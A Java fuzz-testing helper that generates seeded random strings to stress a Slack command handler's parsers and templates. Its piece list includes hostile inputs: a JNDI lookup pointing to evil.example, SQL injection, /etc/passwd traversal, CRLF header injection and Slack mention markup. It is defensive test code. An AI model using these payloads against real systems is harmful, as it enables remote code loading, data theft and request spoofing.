package io.reverser.access.command;

import java.util.List;
import java.util.SplittableRandom;

/** Random strings that break careless parsers and templates; the same seed produces the same strings. */
final class FuzzStrings {

    /** Markup that notifies a whole channel in Slack unless it is escaped. */
    static final String MARKUP = "<!channel> <@U0EVE> <https://evil.example|click>";

    /** An unpaired surrogate as a JSON escape sequence. */
    static final String LONE_SURROGATE = "\\ud83d";

    private static final List<String> PIECES = List.of(
            MARKUP,
            LONE_SURROGATE,
            "\\u0000",
            "\u0000\u0007\u001b[2J\u007f\u0085",
            "\ufeff\u200f\u202e\u2028",
            "\r\nx-slack-signature: v0=0\r\n",
            "`*_~```",
            "\"'\\",
            "{}[]:,",
            "%",
            "%zz",
            "&=",
            "null",
            "NaN",
            "-1",
            "1e999999",
            "99999999999999999999",
            "../../etc/passwd",
            "' OR '1'='1",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}",
            "r-7k3m9q4xwz",
            "\ud83d\ude80",
            "ﬁ\u0130\u0131ß");

    private final SplittableRandom random;

    FuzzStrings(SplittableRandom random) {
        this.random = random;
    }

    /** Returns a random text, which is occasionally far too long, or empty. */
    String text() {
        return switch (random.nextInt(100)) {
            case 0 -> "";
            case 1 -> piece().repeat(random.nextInt(1, 100));
            case 2 -> "a" + " ".repeat(random.nextInt(1, 4_000)) + "b";
            default -> piece() + (random.nextBoolean() ? piece() : Integer.toString(random.nextInt()));
        };
    }

    /** Returns a text about as long as a request can hold. */
    String oversized() {
        String piece = switch (random.nextInt(4)) {
            case 0 -> "x";
            case 1 -> " ";
            case 2 -> "\u0001";
            default -> piece();
        };
        return "a" + piece.repeat(random.nextInt(20_000, 250_000) / piece.length()) + "b";
    }

    String letters(int count) {
        var letters = new StringBuilder(count);
        for (int i = 0; i < count; i++) {
            letters.append((char) random.nextInt('a', 'z' + 1));
        }
        return letters.toString();
    }

    private String piece() {
        return oneOf(PIECES);
    }

    <T> T oneOf(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
